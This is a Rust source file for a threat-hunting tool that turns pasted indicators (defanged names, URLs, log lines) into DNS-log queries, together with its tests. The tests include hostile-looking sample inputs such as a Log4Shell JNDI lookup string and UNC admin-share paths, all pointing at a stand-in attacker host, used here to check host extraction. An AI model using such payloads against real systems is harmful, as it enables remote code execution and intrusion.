//! Indicators as people paste them: out of a report, a mail, an address bar, a spreadsheet.
//!
//! [`Indicator::read`] stands before the query parser. It undoes what reports do so that nobody clicks (`evil[.]example`,
//! `hxxp://`), takes away what surrounds (quotes, brackets, a final comma), and takes the host out of URLs, `host:port`,
//! `user@host` and the like. Whatever it changed is said: [`Indicator::asked`] is what was understood, as a query. What it
//! cannot understand is an error with a hint, for "nothing found" would be taken for an answer.
//!
//! A query stays what it is: `/regex/` and `~text` are not looked into, nor is text with a backslash that makes its next
//! character part of a name.

use std::collections::HashSet;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use super::literal::as_query;
use super::pasted::{is_whole, looks_like_regex, tidied};
use super::query::{MOST_PARTS, Query, QueryError};
use super::refused::{
    AS_NUMBER, CUT, FOREIGN_HINT, a_digest, check, clean, foreign, is_as_number, refused, several,
};
use crate::indicators::text::{
    Cleaned, ONE_A_LINE, SEEN, edges, is_digest, is_key, is_plain, joined, prepared, refang, seen,
};
use crate::indicators::words::{is_pattern, without_dot, words};
use crate::indicators::{has_known_end, is_file_ending, is_host, is_scheme};
use crate::indicators::{in_base64, in_path, mirrored, parts};

/// The longest text that is looked into, in bytes: a URL may be long.
const MAX_BYTES: usize = 32 << 10;
/// How many things one in the other may be around an indicator.
const MOST_LAYERS: usize = 8;
/// Fewer characters of Base64 are a name all the same.
const LEAST_CODED: usize = 12;
/// The longest text whose words are looked at one by one, in bytes: beyond it, it is a text.
const MAX_AMONG: usize = 300;
//--- Indicator ------------------------------------------------------------------------------------------------------

/// Pasted text, understood.
#[derive(Debug, Clone)]
pub struct Indicator {
    /// The query that it means.
    pub query: Query,
    /// The same as text of the query language.
    pub asked: String,
    /// Whether that is something else than what was pasted, but for case and a final dot.
    pub is_changed: bool,
    /// The path, parameters and fragment of a URL.
    rest: String,
}

impl Indicator {
    /// Understands what was pasted.
    ///
    /// # Errors
    ///
    /// When it is neither an indicator nor a query.
    pub fn read(text: &str) -> Result<Indicator, QueryError> {
        // Most of what is asked for is this, and nothing is to be taken away from it.
        if let Ok(address) = text.parse::<Ipv4Addr>() {
            let query = Query::Addresses(address.into(), address.into());
            return Ok(Indicator { query, asked: text.to_owned(), is_changed: false, rest: String::new() });
        }
        Indicator::read_pasted(text)
    }

    /// As [`Indicator::read`], for text of any kind.
    fn read_pasted(text: &str) -> Result<Indicator, QueryError> {
        if let Some(what) = foreign(text) {
            return Err(refused(text, format!("this looks like {what}, which no DNS log has"), FOREIGN_HINT));
        }
        let is_of_lines = |text: &str| text.replace("=\r\n", "").replace("=\n", "").contains('\n');
        // Text that is looked for may be of any lines.
        let is_query = text.trim_start().starts_with(['~', '/']);
        if !is_query && text.trim().contains('\n') && is_of_lines(text.trim()) {
            return Err(refused(text, "this is more than one line", ONE_A_LINE));
        }
        let mut read = Indicator::read_tidied(text)?;
        // Wrappings can be nested.
        for _ in 0..MOST_LAYERS {
            if tidied(&read.asked).is_none() {
                break;
            }
            read = Indicator { is_changed: true, ..Indicator::read_tidied(&read.asked)? };
        }
        Ok(read)
    }

    fn read_tidied(text: &str) -> Result<Indicator, QueryError> {
        let tidied = tidied(text);
        let text = tidied.as_deref().unwrap_or(text);
        let read = Indicator::read_one(text)?;
        Ok(Indicator { is_changed: read.is_changed || tidied.is_some(), ..read })
    }

    fn read_one(text: &str) -> Result<Indicator, QueryError> {
        match Indicator::of(text) {
            // Several URLs or mail addresses must not become a query for one host.
            Ok(one) if one.is_one() => {
                let one = one.with_inner(text)?;
                let many = match joined(text).contains(char::is_whitespace) {
                    true => {
                        let own: Vec<&str> = one.asked.split('|').collect();
                        let lower = text.to_ascii_lowercase();
                        let is_key = |asked: &str| {
                            is_key(asked)
                                && [":", "\":", "="]
                                    .iter()
                                    .any(|sign| lower.contains(&format!("{asked}{sign}")))
                        };
                        let taken = taken_out(text);
                        let others = taken
                            .iter()
                            .filter(|asked| !own.contains(&asked.as_str()) && !is_key(asked))
                            .count();
                        others + 1
                    }
                    false => joined_without_blanks(text),
                };
                several(text, many).map_or_else(|| Ok(one), Err)
            }
            Ok(one) => Ok(one),
            // A part of it is another name.
            Err(error) if error.message.starts_with(CUT) => Err(error),
            Err(error) => match Indicator::among_words(text)? {
                Among::One(one) => Ok(one),
                Among::Several(many) => several(text, many).map_or(Err(error), Err),
                Among::Unclear => several(text, taken_out(text).len()).map_or(Err(error), Err),
            },
        }
    }

    /// Whether it is one name or one address, and not a query that may have words in it.
    fn is_one(&self) -> bool {
        match &self.query {
            Query::Addresses(first, last) => first == last,
            Query::Name(_) | Query::Either(_) | Query::Subtree(_) => !self.asked.contains('\\'),
            _ => false,
        }
    }

    /// Names and addresses inside its URL: for a redirector or a reputation service these are what is meant.
    fn inner(&self) -> Vec<Indicator> {
        let of_nat64 = self.query.address().and_then(behind_nat64).map(|address| address.to_string());
        let of_mirror = mirrored(&self.asked).filter(|_| !self.rest.is_empty());
        let mut found: Vec<Indicator> = Vec::new();
        for text in of_nat64.into_iter().chain(of_mirror).chain(in_path(&self.rest)) {
            let Ok(one) = Indicator::of(&text) else { continue };
            let is_block = matches!(one.query, Query::Addresses(..));
            let is_known = || one.asked == self.asked || found.iter().any(|other| other.asked == one.asked);
            if (is_block || one.is_one()) && !is_known() {
                found.push(one);
            }
        }
        found
    }

    /// The same with what its URL has in it besides, as far as that can be asked for at once.
    pub fn with_links(self) -> Indicator {
        self.clone().with_inner("").unwrap_or(self)
    }

    /// The same with what its URL has in it besides.
    fn with_inner(self, given: &str) -> Result<Indicator, QueryError> {
        let inner = self.inner();
        if inner.is_empty() {
            return Ok(self);
        }
        let many = inner.len() + 1;
        if many > MOST_PARTS {
            return several(given, many).map_or(Ok(self), Err);
        }
        let parts = std::iter::once(self.query).chain(inner.into_iter().map(|one| one.query)).collect();
        let query = Query::several(parts);
        let asked = as_query(&query, String::new());
        Ok(Indicator { query, asked, is_changed: true, rest: String::new() })
    }

    /// The one indicator among words that can be none: `domain: evil.example`, `1. evil.example (C2)`.
    fn among_words(text: &str) -> Result<Among, QueryError> {
        if text.len() > MAX_AMONG || text.starts_with(['~', '/']) {
            return Ok(Among::Unclear);
        }
        let visible = joined(&refang(&text.chars().filter_map(seen).collect::<String>(), ""));
        let (mut found, mut is_clear): (Vec<Indicator>, bool) = (Vec::new(), true);
        let signs = [',', ';', '|', '>', '=', '&'];
        for part in visible.split_whitespace() {
            let whole = Indicator::of(part);
            // `a.example,b.example` is more than one, and a URL with a comma in it is not.
            let words: Vec<&str> = match &whole {
                Ok(_) => vec![part],
                // An arrow has a hyphen.
                Err(_) if part.contains("->") => {
                    part.split(signs).map(|word| word.trim_end_matches('-')).collect()
                }
                Err(_) => part.split(signs).collect(),
            };
            for word in words {
                let bare = edges(word);
                // `key:word`, and what has no letter and no digit in it.
                let is_pair =
                    bare.matches(':').count() == 1 && !bare.contains(['.', '@', '/', '%', '|', '\\']);
                let could_be = bare.contains(['.', ':', '@', '/', '%', '|', '\\']) && !is_pair;
                if !could_be && !bare.contains('*') || !bare.contains(char::is_alphanumeric) {
                    continue;
                }
                // `dns.question.name: x`, `HTTP/1.1`
                let is_key = word.trim_end_matches(['"', '\'']).strip_suffix(':').is_some_and(is_key);
                let is_version = bare.strip_prefix("HTTP/").is_some_and(|version| version.len() < 4);
                if is_key && bare.parse::<IpAddr>().is_err() || is_version {
                    continue;
                }
                let url =
                    url_within(word).filter(|url| url.len() < word.len() && Indicator::of(word).is_err());
                let word = url.unwrap_or(word);
                let Ok(one) = Indicator::of(word) else {
                    is_clear = false;
                    continue;
                };
                let is_meant = match &one.query {
                    // A label of services may have a space in it, and then this is a part of that name.
                    Query::Name(name) => {
                        name.labels().len() > 1 && !one.asked.starts_with('_') && !one.asked.contains("._")
                    }
                    Query::Subtree(_) | Query::Addresses(..) | Query::Several(_) => true,
                    _ => false,
                };
                is_clear &= is_meant;
                let one = if one.is_one() { one.with_inner(word)? } else { one };
                if is_meant && found.iter().all(|other| other.asked != one.asked) {
                    found.push(one);
                }
            }
        }
        Ok(match (found.len(), found.pop()) {
            (1, Some(one)) if is_clear => Among::One(Indicator { is_changed: true, ..one }),
            (0 | 1, _) => Among::Unclear,
            (many, _) => Among::Several(many),
        })
    }

    fn of(text: &str) -> Result<Indicator, QueryError> {
        let given = text.trim();
        if given.len() > MAX_BYTES {
            return Err(refused(given, "this is too long", "a name, an address, a URL or a query"));
        }
        let (side, rest) = match given.split_at_checked(6) {
            Some((word, rest)) if word.eq_ignore_ascii_case("rdata:") => ("rdata:", rest.trim_start()),
            _ => ("", given),
        };
        // Several, as a link with another one in it is asked for.
        let is_part = |part: &str| {
            is_host(part.strip_prefix("*.").unwrap_or(part))
                || matches!(Query::parse(part), Ok(Query::Addresses(..)))
        };
        if given.contains('|')
            && given.split('|').all(is_part)
            && let Ok(query @ Query::Several(_)) = Query::parse(given)
        {
            check(given, &query, given)?;
            let asked = as_query(&query, given.to_owned());
            return Ok(Indicator { is_changed: asked != given, query, asked, rest: String::new() });
        }
        if side.is_empty() && is_plain(given) {
            // Most are: nothing is to be taken away from them.
            if is_digest(given) {
                return Err(a_digest(given));
            }
            if !given.contains('.')
                && given.len() >= LEAST_CODED
                && let Some(text) = in_base64(given).filter(|text| text.contains("://") || is_whole(text))
            {
                return Ok(Indicator { is_changed: true, ..Indicator::of(&text)? });
            }
            let query = Query::parse(given)?;
            check(given, &query, given)?;
            let asked = as_query(&query, given.to_owned());
            return Ok(Indicator { query, asked, is_changed: false, rest: String::new() });
        }
        let first = match rest.is_empty() {
            true => Some(Cleaned { text: String::new(), rest: String::new() }),
            false => clean(given, rest)?,
        };
        let Some(Cleaned { mut text, rest: mut behind }) = first else {
            // A query as it is.
            if side.is_empty() && looks_like_regex(given) {
                return Err(refused(given, "this looks like a regex", "/regex/"));
            }
            let asked = given.to_owned();
            let query = Query::parse(given)?;
            return Ok(Indicator { query, asked, is_changed: false, rest: String::new() });
        };
        // Wrappings can be nested.
        for _ in 0..MOST_LAYERS {
            match clean(given, &text)? {
                Some(inner) if inner.text != text => {
                    text = inner.text;
                    behind = if inner.rest.is_empty() { behind } else { inner.rest };
                }
                _ => break,
            }
        }
        // A question ends so; a glob has its sign before the end, or before an end that names do not have.
        let whole = text.trim_end_matches(['?', '!']);
        if whole.len() < text.len() && is_whole(whole) {
            text.truncate(whole.len());
        }
        let clean = format!("{side}{text}");
        let query = match Query::parse(&clean)? {
            // A mapped IPv4 address, as IPv6 sockets show it. An answer that holds one is asked for as a block, `/128`.
            Query::Addresses(IpAddr::V6(first), last) if first == last && !clean.contains('/') => {
                let address = IpAddr::from(first).to_canonical();
                Query::Addresses(address, address)
            }
            query => query,
        };
        check(given, &query, clean.strip_prefix(side).unwrap_or(&clean))?;
        let is_all = matches!(&query, Query::Subtree(name) | Query::TargetSubtree(name) if name.is_root());
        if is_all && !given.trim_start_matches("rdata:").chars().all(|c| "*.\"'` ".contains(c)) {
            return Err(refused(
                given,
                "this would be the whole ledger",
                "a name, *.name, or * for the whole ledger",
            ));
        }
        let asked = as_query(&query, clean);
        let plain = |text: &str| text.strip_suffix('.').unwrap_or(text).to_ascii_lowercase();
        // `.example.com` is another spelling of `*.example.com`.
        let is_changed = plain(&asked) != plain(given) && asked.strip_prefix('*') != Some(&plain(given));
        Ok(Indicator { query, asked, is_changed, rest: behind })
    }
}

/// The address of IPv4 in one that a host of IPv6 alone reaches it by (RFC 6052): `64:ff9b::203.0.113.66`.
fn behind_nat64(address: IpAddr) -> Option<Ipv4Addr> {
    let IpAddr::V6(address) = address else { return None };
    let bits = address.to_bits();
    // And one that has it in its end and nothing else, as was written once.
    let is_compatible = bits >> 32 == 0 && bits > 0xffff;
    (is_compatible || bits >> 32 == 0x64_ff9b << 64)
        .then(|| Ipv4Addr::from_bits(u32::try_from(bits & 0xffff_ffff).unwrap_or_default()))
}

/// A hint for a query that finds nothing: the end of an address may be a port (`2001:db8::66:443`), and a reverse name may stand
/// for its address.
pub fn maybe_meant(asked: &str) -> Option<String> {
    if let Some(address) = written_as_name(asked) {
        return Some(format!("if the address is meant: ask for {address}"));
    }
    asked.parse::<Ipv6Addr>().ok()?;
    let (front, port) = asked.rsplit_once(':')?;
    let is_port = port.len() > 1 && port.parse::<u16>().is_ok() && !front.ends_with(':');
    let front: Ipv6Addr = front.parse().ok().filter(|_| is_port)?;
    Some(format!("if {port} is a port: ask for {front}"))
}

/// The address that a name of the reverse tree stands for, or one that Windows has for addresses in paths.
fn written_as_name(name: &str) -> Option<IpAddr> {
    let name = name.to_ascii_lowercase();
    if let Some(parts) = name.strip_suffix(".in-addr.arpa") {
        let parts: Vec<&str> = parts.rsplit('.').collect();
        return parts.join(".").parse().ok();
    }
    if let Some(digits) = name.strip_suffix(".ip6.arpa") {
        let digits: Vec<&str> = digits.rsplit('.').filter(|digit| digit.len() == 1).collect();
        let parts: Vec<String> = digits.chunks(4).map(<[&str]>::concat).collect();
        return parts.join(":").parse().ok();
    }
    name.strip_suffix(".ipv6-literal.net")?.replace('-', ":").parse().ok()
}

/// A hint for the name of a mirror or proxy: it has the name of another site in it.
pub fn another(asked: &str) -> Option<String> {
    let inner = Indicator::of(&mirrored(asked)?).ok().filter(Indicator::is_one)?;
    Some(format!("there is another URL in it: ask for {} as well", inner.asked))
}

/// For endpoints with query rules of their own: understands text that means nothing by those rules, and one name, subtree or
/// address by ours (defanged, a URL, with a port).
pub fn understood(text: &str) -> Option<Indicator> {
    if let Some(query) = starred_block(text) {
        let asked = as_query(&query, text.to_owned());
        return Some(Indicator { query, asked, is_changed: true, rest: String::new() });
    }
    // A line end that was sent with it.
    if text.trim().len() < text.len() && is_whole(text.trim()) {
        return Indicator::of(text).ok().map(|one| Indicator { is_changed: true, ..one });
    }
    // In quotation marks it is data of TXT, or a name that was copied with them.
    if let Some(inner) = text.strip_prefix('"').and_then(|text| text.strip_suffix('"')) {
        let one = Indicator::of(inner).ok().filter(|one| is_whole(&one.asked))?;
        return Some(Indicator { is_changed: true, ..one });
    }
    let is_theirs =
        || text.starts_with('"') || text.contains(char::is_whitespace) || Query::of_addresses(text).is_some();
    if is_plain(text) || is_theirs() {
        return None;
    }
    // A link means the site that serves it.
    let one = Indicator::of(text).ok()?;
    let is_one = matches!(one.query, Query::Name(_) | Query::Subtree(_) | Query::Addresses(..));
    (one.is_changed && is_one).then_some(one)
}

/// Refuses what was pasted to such an endpoint, where it can be nothing by anybody's rules: an empty answer would be taken for a clean one.
///
/// # Errors
///
/// When it is several names or addresses, an address that there cannot be, a hash, or the number of an AS.
pub fn refuse_nothing(text: &str) -> Result<(), QueryError> {
    let parts = || text.split('.');
    let is_number = |part: &str| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit());
    let is_like_address = parts().count() == 4 && parts().all(is_number);
    if (is_like_address || is_digest(text))
        && let Err(error) = Indicator::of(text)
    {
        return Err(error);
    }
    if is_as_number(text) {
        return Err(refused(
            text,
            format!("this looks like {AS_NUMBER}, which no DNS log has"),
            FOREIGN_HINT,
        ));
    }
    let parts: Vec<&str> = text.split([',', ';', '|']).map(str::trim).collect();
    match parts.len() > 1 && parts.iter().all(|part| is_whole(&refang(part, ""))) {
        true => several(text, parts.len()).map_or(Ok(()), Err),
        false => Ok(()),
    }
}

/// The block that an address with stars at its end is meant as: `203.0.113.*`.
fn starred_block(text: &str) -> Option<Query> {
    let front = text.strip_suffix(".*")?;
    let front = front.strip_suffix(".*").unwrap_or(front);
    let parts: Vec<&str> = front.split('.').collect();
    let stars = text.split('.').count() - parts.len();
    let is_short = parts.len() + stars == 4 || parts.len() == 2 && stars == 1;
    let length = 8 * u32::try_from(parts.len()).ok()?;
    let address = parts.iter().copied().chain(std::iter::repeat_n("0", 4_usize.checked_sub(parts.len())?));
    let address = address.collect::<Vec<_>>().join(".");
    // A part of one number is a network of millions.
    let is_one = parts.len() > 1 && is_short && address.parse::<IpAddr>().is_ok();
    is_one.then(|| Query::block(&address, &length.to_string()).ok()).flatten()
}

/// The URL that a word of a page or a program has in it: `href="https://evil.example/">x</a>`, `${jndi:ldap://evil.example/a}`.
fn url_within(word: &str) -> Option<&str> {
    let (at, _) = word.match_indices("://").next().filter(|_| word.matches("://").count() == 1)?;
    let start = word.get(..at)?.rfind(|c: char| !c.is_ascii_alphanumeric()).map_or(0, |before| before + 1);
    let url = word.get(start..)?;
    url.get(..url.find(['"', '\'', '<', '>', '{', '}', '(', ')', '`']).unwrap_or(url.len()))
}

/// The indicators among words.
enum Among {
    One(Indicator),
    /// This many queries.
    Several(usize),
    /// None, or one and something that may be another.
    Unclear,
}

/// How many different names and addresses there are in a text that has no blanks between them: `https://a.example/x,https://b.example/y`.
fn joined_without_blanks(text: &str) -> usize {
    let signs = [',', ';', '|'];
    if text.contains(char::is_whitespace) || !text.contains(signs) {
        return 0;
    }
    let mut found = HashSet::new();
    // Behind the question mark of a URL there are parameters, unless another URL begins there.
    let mut is_free = true;
    for (at, part) in text.split(signs).enumerate() {
        let is_begun = at == 0 || part.contains("://");
        if is_begun || is_free {
            found.extend(
                asked_by(&prepared(part))
                    .and_then(|asked| asked.into_iter().next())
                    .filter(|_| is_begun || is_whole(&refang(part, "")) || part.contains('/')),
            );
        }
        is_free &= !part.contains('?');
    }
    found.len()
}

/// The names and addresses in a text, each once.
pub(super) fn taken_out(text: &str) -> Vec<String> {
    each_once(words(text).iter().flat_map(|word| of_word(word).unwrap_or_default()))
}

/// The same, with the words that look as if they were such and are none that is understood: whoever asks for them is told why.
pub(super) fn with_unclear(text: &str) -> Vec<String> {
    each_once(words(text).iter().flat_map(|word| of_word(word).unwrap_or_else(|| unclear(word))))
}

fn each_once(all: impl Iterator<Item = String>) -> Vec<String> {
    let mut known = HashSet::new();
    all.filter(|asked| known.insert(asked.clone())).collect()
}

fn of_word(word: &str) -> Option<Vec<String>> {
    parts(word).find_map(asked_by)
}

/// The parts of a word that look like names or addresses, though none was taken out of it.
fn unclear(word: &str) -> Vec<String> {
    let plain = word.replace(SEEN, "");
    let runs = plain.split(|c: char| !c.is_alphanumeric() && !"-_.".contains(c));
    let runs = runs.map(|run| run.trim_matches('.')).filter(|run| looks_like_one(run));
    let is_number = |c: char| c.is_ascii_digit();
    // `a.example\b.example`: a backslash that is no escape of a byte or a dot, and of no path.
    let is_divided =
        plain.split('\\').skip(1).any(|rest| !rest.starts_with('.') && !rest.starts_with(is_number));
    if is_divided && foreign(&plain).is_none() && !plain.starts_with("\\\\") {
        return runs.map(str::to_owned).collect();
    }
    let is_url = plain
        .split_once("://")
        .is_some_and(|(scheme, rest)| is_scheme(scheme) && rest.starts_with(char::is_alphanumeric));
    let is_any = word.contains(SEEN) || is_url || runs.count() > 0;
    is_any.then_some(plain).into_iter().collect()
}

/// Whether a text is a name with an end that names have, and files have not, or four numbers with dots between them.
fn looks_like_one(text: &str) -> bool {
    let is_number = |part: &str| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit());
    if text.split('.').all(is_number) {
        return text.split('.').count() == 4
            && !text.parse::<IpAddr>().is_ok_and(|address| address.is_unspecified());
    }
    let end = text.rsplit('.').next().unwrap_or_default().to_ascii_lowercase();
    is_whole(text) && !is_file_ending(end.as_bytes())
}

/// The queries for a word that is a name, an address or a URL, with names inside the URL.
fn asked_by(word: &str) -> Option<Vec<String>> {
    let plain = word.replace(SEEN, "");
    let plain = without_dot(&plain);
    if is_pattern(plain) {
        return None;
    }
    let is_meant = word.contains(SEEN) || plain.contains("://");
    let one = Indicator::of(plain).ok()?;
    let fits = match &one.query {
        Query::Addresses(first, _) => !first.is_unspecified(),
        Query::Name(_) | Query::Subtree(_) | Query::Several(_) => {
            let name = one.query.names().next()?;
            let shown = name.to_string();
            let (front, last) = shown.rsplit_once('.')?;
            !front.is_empty() && !last.ends_with(['-', '=']) && (is_meant || has_known_end(name))
        }
        _ => false,
    };
    fits.then(|| {
        let inner = one.inner().into_iter().map(|one| one.asked);
        std::iter::once(one.asked.clone()).chain(inner).collect()
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dns::Name;
    use crate::lookup::literal;
    use proptest::prelude::*;

    fn asked(text: &str) -> String {
        match Indicator::read(text) {
            Ok(indicator) => indicator.asked,
            Err(error) => format!("error: {}", error.message),
        }
    }

    proptest! {
        #[test]
        fn an_address_is_read_at_once_as_what_it_is_read_as_with_all_care(address: Ipv4Addr) {
            let text = address.to_string();
            let shown = |read: Result<Indicator, QueryError>| format!("{read:?}");
            let (at_once, with_care) = (Indicator::read(&text), Indicator::read_pasted(&text));
            prop_assert_eq!(shown(at_once), shown(with_care));
        }
    }

    #[test]
    fn a_query_stays_the_query_that_it_is() {
        for text in [
            "www.example.com",
            "*.example.com",
            "www.example.*",
            "mail*.example.com",
            "ns?.example.net",
            "192.0.2.7",
            "2001:db8::1",
            "192.0.2.0/24",
            "192.0.2.3-192.0.2.9",
            "192.0.2.3-static.example.net",
            "0/25.2.0.192.in-addr.arpa",
            "1.0/25.2.0.192.in-addr.arpa",
            "rdata:ns1.example.net",
            "rdata:*.example.net",
            "rdata:*mail*",
            "~v=spf1 include:_spf.example",
            "~a[.]b",
            "/^mail[0-9]+\\.example\\.com$/",
            "/hxxp:\\/\\//",
            r"\*.example.com",
            r"a\.b.example.com",
            r"two\032words.example",
            "_dmarc.example.com",
            "_http._tcp.example.com",
            "dGVzdA==.tunnel.example",
            "\"odd\".example",
            "printer",
            "*",
            ".",
        ] {
            let indicator = Indicator::read(text).unwrap_or_else(|error| panic!("{text}: {error}"));
            assert!(!indicator.is_changed, "{text}: {}", indicator.asked);
            assert_eq!(
                format!("{:?}", indicator.query),
                format!("{:?}", Query::parse(text).unwrap()),
                "{text}"
            );
        }
        assert!(!Indicator::read(".Example.com.").unwrap().is_changed);
    }

    #[test]
    fn a_name_that_looks_like_something_else_has_a_text_that_finds_it() {
        for (shown, text) in [
            ("www.example.com", "www.example.com"),
            ("a,b.example", r"a\,b.example"),
            ("192.0.2.7", r"\04992.0.2.7"),
            (r"a\.b", r"a\046b"),
            ("d41d8cd98f00b204e9800998ecf8427e", r"\10041d8cd98f00b204e9800998ecf8427e"),
            ("as64500", r"\097s64500"),
        ] {
            let name = Name::parse(shown).unwrap();
            assert_eq!(literal(&name), text, "{shown}");
            assert_eq!(asked(text), text);
        }
    }

    #[test]
    fn what_a_paste_has_around_a_name_is_stripped_or_refused() {
        for text in [
            "up.evil.example?",
            "\"up.evil.example?\"",
            "(up.evil.example?)",
            "up[.]evil[.]example??",
            "up.evil.example?!",
            "=\"up.evil.example\"",
            "\"\"up.evil.example\"\"",
            "<td>up.evil.example</td>",
            "up.evil.example<br>",
            "&lt;up.evil.example&gt;",
            "up.evil.example&nbsp;",
            "up.evil.example\\n",
            "up.evil.example\\r\\n",
            "b'up.evil.example'",
            "up.evil.example[1]",
            "up.evil.example\u{b9}",
            "up.evil.example\u{2122}",
            "up.evil.example(seen)",
            "up.evil.example~",
            "_up.evil.example_",
            "__up.evil.example__",
            "(2)up(4)evil(7)example(0)",
            "up.evil.example&amp;",
            "up&#46;evil&#46;example",
            "up.evil.example\u{ff1b}",
            "up.evil.example+",
            "&up.evil.example",
            "u'up.evil.example'",
            "(u'up.evil.example')",
            "u'up.evil.example']",
            r"\tup.evil.example",
            r"up\u002eevil.example",
            r"https:\u002f\u002fup.evil.example",
            r"up\x2eevil\x2eexample",
        ] {
            assert_eq!(asked(text), "up.evil.example", "{text}");
        }
        assert_eq!(asked("[*.]evil.example"), "*.evil.example");
        for text in [
            "up. evil. example",
            "h4. up.evil.example",
            "up.evil .example",
            "up.evil. example",
            "up .evil .example",
            "http://up.evil. example/x",
            "up.evil.example...",
            "http://up.evil.example.../x",
            "up.evil.example..:443",
            "dom=up.evil.example&y=1",
            "domain=up.evil.example&y=1",
            "u\u{ad}p.evil.ex\u{ad}ample",
            "up.ev\u{ef}il.example".trim_matches('x').replace('\u{ef}', "").as_str(),
            r"\\up.evil.example\d$\x",
            r"\\up.evil.example\ADMIN$",
        ] {
            assert_eq!(asked(text), "up.evil.example", "{text}");
        }
        assert_eq!(asked("e\u{fb03}ce.example"), "effice.example");
        for text in [
            "```up.evil.example```",
            "~up.evil.example~",
            "\"up.evil.example\"'s",
            "-up.evil.example",
            "\u{2026}up.evil.example\u{2026}",
            "\u{2192} up.evil.example",
            "\u{1f6a8} up.evil.example",
            "[1] up.evil.example",
            "A? up.evil.example",
            "up.evil.example // c2",
            "query[A] up.evil.example",
            "CONNECT up.evil.example:443 HTTP/1.1",
            "\"dns.question.name\": \"up.evil.example\",",
            "dns.query:\"up.evil.example\"",
            "[domain-name:value = 'up.evil.example']",
            "$c2 = \"up.evil.example\" ascii wide",
            "{\"indicator\":\"up.evil.example\",\"type\":\"domain\"}",
            "<a href=\"http://up.evil.example/x\">link</a>",
            "<Data Name=\"QueryName\">up.evil.example</Data>",
            "<url>up.evil.example</url>",
            "${jndi:ldap://up.evil.example:1389/a}",
            "git@up.evil.example:repo/x.git",
            r"\\up.evil.example@SSL\DavWWWRoot\x",
            r"up\\.evil\\.example",
            "aHR0cHM6Ly91cC5ldmlsLmV4YW1wbGUv",
            "dXAuZXZpbC5leGFtcGxl",
        ] {
            assert_eq!(asked(text), "up.evil.example", "{text}");
        }
        for text in ["ip4:203.0.113.66", "[ipv4-addr:value = '203.0.113.66']", ".203.0.113.66"] {
            assert_eq!(asked(text), "203.0.113.66", "{text}");
        }
        assert_eq!(asked("::203.0.113.66"), "::cb00:7142|203.0.113.66");
        for text in
            ["203.0.113.66_80", "203.0.113.66x", "203.0.113.66e0", r"^up\.evil\.example$", "/usr/bin/x"]
        {
            assert!(asked(text).starts_with("error: "), "{text}: {}", asked(text));
        }
        let meant = |text: &str| maybe_meant(text).unwrap_or_default();
        assert_eq!(meant("66.113.0.203.in-addr.arpa"), "if the address is meant: ask for 203.0.113.66");
        assert!(meant("8.b.d.0.1.0.0.2.ip6.arpa").is_empty());
        assert_eq!(asked("203. 0. 113. 66"), "203.0.113.66");
        assert_eq!(asked(r"\\fileserver\c$\x"), "fileserver");
        assert_eq!(asked("64:ff9b::203.0.113.66"), "64:ff9b::cb00:7142|203.0.113.66");
        for text in
            ["203.0.113.66 -> 203.0.113.67", "203.0.113.66->203.0.113.67", "203.0.113.66 --> 203.0.113.67"]
        {
            assert_eq!(asked(text), "error: there are two indicators in it", "{text}");
        }
        assert_eq!(asked("up.evil.example&ttl"), "up.evil.example");
        assert_eq!(asked("www.example.com. It"), "www.example.com");
        for (link, both) in [
            ("https://www.virustotal.com/gui/domain/evil.example", "www.virustotal.com|evil.example"),
            ("\"https://www.virustotal.com/gui/domain/evil.example\",", "www.virustotal.com|evil.example"),
            ("see https://www.virustotal.com/gui/domain/evil.example now", "www.virustotal.com|evil.example"),
            ("see https://crt.sh/?q=evil.example", "crt.sh|evil.example"),
            ("[vt](https://www.virustotal.com/gui/domain/evil.example)", "www.virustotal.com|evil.example"),
            ("hxxps://www[.]shodan[.]io/host/203[.]0[.]113[.]66", "www.shodan.io|203.0.113.66"),
            ("https://crt.sh/?q=%25.evil.example", "crt.sh|*.evil.example"),
            ("https://bgp.he.net/net/203.0.113.0/24", "bgp.he.net|203.0.113.0/24"),
            ("crt.sh/?q=evil.example", "crt.sh|evil.example"),
            ("https://a.example/b.example/c.example", "a.example|b.example|c.example"),
            ("https://203.0.113.9/?ip=203.0.113.66", "203.0.113.9|203.0.113.66"),
            (
                "https://nam01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fwww.virustotal.com%2Fgui%2Fdomain%2Fevil.example&data=x",
                "www.virustotal.com|evil.example",
            ),
        ] {
            assert_eq!(asked(link), both, "{link}");
            assert_eq!(asked(both), both);
        }
        // As Zeek writes bytes, and as a query has them.
        assert_eq!(asked(r"\xc8bin.evil.example"), asked(r"\200bin.evil.example"));
        assert!(asked(r"\xc8bin.evil.example").starts_with(r"\200bin"));
        // Either order of a pair.
        assert_eq!(asked("198.51.100.67|nope.example"), "nope.example|198.51.100.67");
        assert_eq!(asked("2001:db8::1|nope.example"), "nope.example|2001:db8::1");
        assert_eq!(asked("<subdomain>.evil.example"), "*.evil.example");
        assert_eq!(asked("ns.example.n?"), "ns.example.n?");
        assert_eq!(asked("ns?.example.net"), "ns?.example.net");
        assert_eq!(asked("https://a.example/x,y.html?u=b.txt,c"), "a.example");
        for text in [
            "https://a.example/x,https://b.example/y",
            "a.example/x,b.example/y",
            "https://a.example/x;https://b.example/y",
            "https://a.example/x|https://b.example/y",
            "203.0.113/24",
            r".*\.evil\.example",
            r"^.*\.evil\.example$",
            r"^up\.evil\.example$",
            "{*}.evil.example",
            "up/evil/example",
            "up.evil.\nexample",
        ] {
            assert!(asked(text).starts_with("error: "), "{text}: {}", asked(text));
        }
    }

    proptest! {
        #[test]
        fn what_was_understood_is_understood_as_the_same(text in "[a-z0-9.:/@|%\\[\\](){}<>\"' \\\\*?,;~&=-]{0,24}|(https?://)?[a-z0-9.]{1,8}[./](com|io|net)/[a-z0-9.:/%?&=|]{0,24}|[0-9. |/-]{7,30}|([a-z]{1,3}[. ]{1,3}){1,3}(com|io)[.]{0,3}") {
            if let Ok(first) = Indicator::read(&text) {
                let again = Indicator::read(&first.asked);
                prop_assert!(again.is_ok(), "{text:?} {:?} {again:?}", first.asked);
                prop_assert_eq!(again.unwrap().asked, first.asked, "{}", text);
            }
        }

        #[test]
        fn no_text_makes_it_panic(text: String) {
            let _ = Indicator::read(&text);
        }

        #[test]
        fn every_name_has_a_text_that_finds_it(labels in proptest::collection::vec(proptest::collection::vec(1u8..=255, 1..8), 1..5)) {
            let name = Name::from_labels(labels.iter().map(Vec::as_slice)).unwrap();
            for (text, what) in [(literal(&name), "name"), (format!("*.{}", literal(&name)), "below")] {
